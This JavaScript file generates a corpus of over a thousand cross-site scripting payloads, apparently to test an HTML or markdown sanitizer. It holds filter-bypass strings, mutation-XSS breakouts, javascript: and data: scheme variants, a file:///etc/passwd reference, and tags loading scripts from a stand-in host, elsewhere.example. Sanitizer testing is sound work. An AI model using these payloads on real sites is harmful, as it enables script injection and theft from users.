// Words by which somebody would have a reader's browser run something or ask another host: every way to write it, times
// every thing to write. What runs calls `struck()`; what is asked for lies at `elsewhere.example`.

const run = ["struck(1)", "struck`1`", "window['struck'](1)", "&#115;truck(1)", "top.struck&lpar;1&rpar;"];
const events = ["onerror", "onload", "onclick", "onfocus", "onmouseover", "ontoggle", "onanimationstart", "onbegin", "onpointerenter", "onbeforematch", "ONERROR", "onerror\t", "on\u0000error"];
const elements = ["img src=x", "svg", "body", "video src=x", "audio src=x", "details open", "input autofocus", "iframe", "math", "a href=x", "b", "marquee", "object data=x", "embed src=x", "form", "button", "select autofocus", "textarea autofocus", "style", "link rel=stylesheet href=x", "table background=x", "mark", "q", "ins", "time"];
const quoting = [(event, code) => `${event}=${code}`, (event, code) => `${event}="${code}"`, (event, code) => `${event}='${code}'`, (event, code) => `/${event}=${code}//`];

const schemes = [
  "javascript:struck(1)", "JaVaScRiPt:struck(1)", " javascript:struck(1)", "java\tscript:struck(1)", "java\nscript:struck(1)", "java&#x0A;script:struck(1)",
  "&#106;avascript:struck(1)", "&#x6a;avascript:struck(1)", "javascript&colon;struck(1)", "javascript&#58;struck(1)", "javascript&#0058struck(1)", "\u0001javascript:struck(1)",
  "javascript://%0astruck(1)", "javascript:/*--></title></style></textarea></script>*/struck(1)", "data:text/html,<script>struck(1)</script>", "data:text/html;base64,PHNjcmlwdD5zdHJ1Y2soMSk8L3NjcmlwdD4=",
  "data:image/svg+xml,<svg onload=struck(1)>", "vbscript:struck(1)", "view-source:javascript:struck(1)", "feed:javascript:struck(1)", "blob:struck", "file:///etc/passwd", "ws://elsewhere.example/",
  "//elsewhere.example/x", "\\\\elsewhere.example\\x", "/\\elsewhere.example/x", "http:\\\\elsewhere.example", "https://elsewhere.example/x.png", "jAvAsCrIpT&Tab;:struck(1)", "%6aavascript:struck(1)",
];
const carriers = [
  (to) => `<a href="${to}">x</a>`, (to) => `<a href='${to}'>x</a>`, (to) => `<a href=${to}>x</a>`, (to) => `<img src="${to}">`, (to) => `<iframe src="${to}"></iframe>`, (to) => `<object data="${to}"></object>`,
  (to) => `<embed src="${to}">`, (to) => `<form action="${to}"><button>x</button></form>`, (to) => `<button formaction="${to}">x</button>`, (to) => `<svg><a xlink:href="${to}"><text>x</text></a></svg>`,
  (to) => `<math><maction xlink:href="${to}">x</maction></math>`, (to) => `<meta http-equiv="refresh" content="0;url=${to}">`, (to) => `<base href="${to}">`, (to) => `<link rel="stylesheet" href="${to}">`,
  (to) => `<script src="${to}"></script>`, (to) => `<video poster="${to}"></video>`, (to) => `<img srcset="${to} 1x">`, (to) => `<source src="${to}">`, (to) => `<body background="${to}">`, (to) => `<div style="background:url(${to})">x</div>`,
  (to) => `<style>@import "${to}";</style>`, (to) => `<q cite="${to}">x</q>`, (to) => `<a ping="${to}" href="#">x</a>`,
  (to) => `[x](${to})`, (to) => `[x](<${to}>)`, (to) => `![x](<${to}>)`, (to) => `[x]: <${to}>\n\n[x]`, (to) => `<${to}>`, (to) => `[![x](<${to}>)](<${to}>)`, (to) => `[x](<${to}> "t")`,
];

const breaking = [
  "<script>struck(1)</script>", "</script><script>struck(1)</script>", "\"><script>struck(1)</script>", "'><script>struck(1)</script>", "--><script>struck(1)</script>", "]]><script>struck(1)</script>", "</title><script>struck(1)</script>",
  "</style><script>struck(1)</script>", "</textarea><script>struck(1)</script>", "<scr<script>ipt>struck(1)</scr</script>ipt>", "<script/x>struck(1)</script>", "<script\u0000>struck(1)</script>", "<SCRIPT>struck(1)</SCRIPT >",
  "<script>/*\n\n*/struck(1)</script>", "<script type=module>struck(1)</script>", "<!--<script>-->struck(1)</script>", "<noscript><p title=\"</noscript><img src=x onerror=struck(1)>\">", "<svg><style><img src=x onerror=struck(1)></style></svg>",
  "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=struck(1)&gt;\">", "<svg></p><style><a id=\"</style><img src=1 onerror=struck(1)>\">", "<form><math><mtext></form><form><mglyph><style></math><img src onerror=struck(1)>",
  "<template><img src=x onerror=struck(1)></template>", "<xmp><p title=\"</xmp><img src=x onerror=struck(1)>\">", "<select><template><script>struck(1)</script></template></select>", "<svg><script>struck(1)</script></svg>", "<svg><animate onbegin=struck(1) attributeName=x dur=1s>",
  "<svg><set attributeName=href to=javascript:struck(1)><a>x</a></svg>", "<svg><use href=\"data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><script>struck(1)</script></svg>#x\"></svg>", "<svg><foreignObject><img src=x onerror=struck(1)></foreignObject></svg>",
  "\" onmouseover=\"struck(1)", "' onmouseover='struck(1)", "` onmouseover=`struck(1)", "x\" autofocus onfocus=struck(1) y=\"", "\\\"-struck(1)-\\\"", "\\u003cscript\\u003estruck(1)\\u003c/script\\u003e", "${struck(1)}", "{{ struck(1) }}", "{% raw %}<script>struck(1)</script>",
  "{{ constructor.constructor('struck(1)')() }}", "\u2028struck(1)//", "\u2029struck(1)//", "</p><script>struck(1)</script><p>", "<a\u00a0href=javascript:struck(1)>x</a>", "<a\u000chref=javascript:struck(1)>x</a>", "＜script＞struck(1)＜/script＞", "%3Cscript%3Estruck(1)%3C/script%3E",
  "&lt;script&gt;struck(1)&lt;/script&gt;", "<img src=x onerror\n=\nstruck(1)>", "<img \"\"\"><script>struck(1)</script>\">", "<<script>struck(1)//<</script>", "<img src=`x`onerror=struck(1)>", "<br size=\"&{struck(1)}\">", "<div id=n-one name=postil>x</div>", "<a id=postil name=postil href=x>x</a>",
  "<form id=postil><input name=notes></form>", "*[<script>struck(1)</script>]*", "`<script>struck(1)</script>`", "    <script>struck(1)</script>", "[^<script>struck(1)</script>]", "<div style=\"position:fixed;inset:0\">x</div>", "<plaintext>", "<div\n\n><script>struck(1)</script>",
];

/** Every payload once: more than a thousand. */
export const payloads = [
  ...breaking,
  ...carriers.flatMap((carrier) => schemes.map(carrier)),
  ...elements.flatMap((element, at) => events.map((event, n) => `<${element} ${quoting[(at + n) % quoting.length](event, run[(at + n) % run.length])}>`)),
];
